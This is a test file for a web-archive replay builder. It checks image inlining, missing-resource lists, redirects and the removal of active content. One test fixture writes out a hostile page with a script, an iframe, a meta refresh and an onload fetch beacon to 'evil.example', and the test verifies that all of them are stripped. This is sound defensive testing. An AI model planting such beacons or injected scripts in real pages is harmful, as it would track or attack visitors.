import fs from 'node:fs';
import path from 'node:path';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { buildReplayDocument } from '../../../src-main/captures/buildReplayDocument';
import { importCapture } from '../../../src-main/captures/importCapture';
import { captureRecords, samplePng, SITE_PATHS, startCapturedSite } from '../../helpers/captureFixtures';
import { newTestCase } from '../../helpers/testCase';
import { tempDir } from '../../helpers/tempDir';

let site: Awaited<ReturnType<typeof startCapturedSite>>;
let warc: Buffer;
beforeAll(async () => {
  site = await startCapturedSite();
  // The stylesheet is left out of the capture: the replay must list it as missing.
  warc = Buffer.concat(await captureRecords(site.base, SITE_PATHS.filter((p) => p !== '/style.css')));
});
afterAll(() => site.close());

describe('replay document', () => {
  it('inlines the archived image as data, lists what the archive lacks, and forbids every other load', async () => {
    const caseFile = newTestCase();
    const file = path.join(tempDir(), 'shop.warc');
    fs.writeFileSync(file, warc);
    const { capture } = await importCapture(caseFile, file);
    const replay = await buildReplayDocument(caseFile.db, capture.id, `${site.base}/`);
    expect(replay.http_status).toBe(200);
    expect(replay.missing).toEqual([`${site.base}/style.css`]);
    expect(replay.html).toContain(`src="data:image/png;base64,${samplePng().toString('base64')}"`);
    expect(replay.html).toContain('Content-Security-Policy');
    // No URL of the site is left where the browser would load it; links to other pages are inert.
    expect(replay.html).not.toMatch(/\s(src|href)="http/);
    expect(replay.html).toContain(`data-archived-href="${site.base}/old"`);
  });

  it('follows an archived redirect and answers an unknown page with no document', async () => {
    const caseFile = newTestCase();
    const file = path.join(tempDir(), 'shop.warc');
    fs.writeFileSync(file, warc);
    const { capture } = await importCapture(caseFile, file);
    const redirected = await buildReplayDocument(caseFile.db, capture.id, `${site.base}/old`);
    expect(redirected.url).toBe(`${site.base}/`);
    expect(redirected.html).toContain('Outlook accounts, verified');
    const unknown = await buildReplayDocument(caseFile.db, capture.id, 'https://elsewhere.example/');
    expect(unknown).toMatchObject({ html: null, missing: ['https://elsewhere.example/'] });
  });

  it('removes scripts and event handlers of the archived page', async () => {
    const caseFile = newTestCase();
    const { WARCRecord, WARCSerializer } = await import('warcio');
    const page = WARCRecord.create(
      { url: 'https://evil.example/', type: 'response', warcVersion: 'WARC/1.1', httpHeaders: { 'Content-Type': 'text/html' } },
      (async function* () {
        yield new TextEncoder().encode('<html><head><base href="https://evil.example/x/"><meta http-equiv="refresh" content="0;url=https://evil.example/"></head><body onload="fetch(\'https://evil.example/beacon\')"><script>alert(1)</script><iframe src="https://evil.example/f"></iframe>hi</body></html>');
      })(),
    );
    const file = path.join(tempDir(), 'evil.warc');
    fs.writeFileSync(file, Buffer.from(await WARCSerializer.serialize(page)));
    const { capture } = await importCapture(caseFile, file);
    const replay = await buildReplayDocument(caseFile.db, capture.id, 'https://evil.example/');
    expect(replay.html).not.toMatch(/<script|onload|<iframe|<base|refresh/i);
    expect(replay.html).toContain('hi');
  });
});
